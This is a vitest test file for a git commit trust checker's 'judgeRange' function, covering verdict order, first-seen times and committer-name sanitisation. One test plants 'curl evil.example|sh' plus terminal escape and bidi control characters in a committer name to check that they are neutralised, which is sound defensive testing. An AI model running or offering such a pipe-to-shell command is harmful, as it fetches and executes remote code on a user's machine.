import { describe, expect, it } from 'vitest';
import { computeOid } from '../../../shared/git/object-id.ts';
import type { Oid } from '../../../shared/model/oid.ts';
import { judgeRange, type RangeTerms } from '../../../shared/trust/judge-range.ts';
import { ParentLists } from '../../../shared/trust/parent-lists.ts';
import { createExceptions } from '../../../shared/trust/policy-exceptions.ts';
import type { CommitRange } from '../../../shared/trust/walk-history.ts';
import { createBranchPolicy } from '../../support/policies.ts';
import { oidOf } from '../../support/small-history.ts';

const terms: RangeTerms = {
  signatories: [],
  compromisedKeys: [],
  branch: createBranchPolicy(),
  exceptions: createExceptions({ accepted: [], denied: [] }, new Map()),
  judgedAt: 2_000_000_000,
  firstSeen: new Map(),
};

function commitOf(message: string, name = 'Bob'): [Oid, Uint8Array] {
  const person = `${name} <bob@example.com> 1767225600 +0000`;
  const raw = Buffer.from(`tree ${oidOf('7')}\nauthor ${person}\ncommitter ${person}\n\n${message}\n`);
  return [computeOid('commit', raw, 'sha1').oid, raw];
}

describe('judgeRange', () => {
  const [one, two] = [commitOf('One'), commitOf('Two')];
  const range: CommitRange = {
    trusted: oidOf('0'),
    ancestors: null,
    tip: two[0],
    asked: [one[0], oidOf('e'), two[0]],
    candidates: [2],
    parents: new ParentLists(),
    roots: new Set(),
    missing: new Map(),
  };

  it('gives each asked commit its verdict in order, and none to one that was not sent (trust rule 1.5)', () => {
    const commits = new Map([two, one, commitOf('Not asked for')]);
    const verdicts = [...judgeRange(range, commits, terms)];
    expect(verdicts.map(({ commit }) => commit)).toEqual([one[0], two[0]]);
    expect(verdicts).toMatchObject([{ outcome: 'refused', reason: 'unsigned' }, { outcome: 'refused' }]);
  });

  it('names a committer in nothing that a terminal, a chat or a reader would take for a command', () => {
    const [id, raw] = commitOf('One', 'run `curl evil.example|sh`\u001b[2J\u202e\u0007');
    const [verdict] = judgeRange({ ...range, asked: [id] }, new Map([[id, raw]]), { ...terms, judgedAt: 0 });
    expect(verdict?.committer).toBe("run 'curl evil.example|sh'\ufffd[2J\ufffd\ufffd <bob@example.com>");
  });

  it('keeps when a commit was first seen; for a new one that is now (trust rule 3.1)', () => {
    const seen = new Map([[one[0], 1_800_000_000]]);
    const verdicts = [...judgeRange(range, new Map([one, two]), { ...terms, firstSeen: seen })];
    expect(verdicts.map(({ firstSeen }) => firstSeen)).toEqual([1_800_000_000, 2_000_000_000]);
  });
});
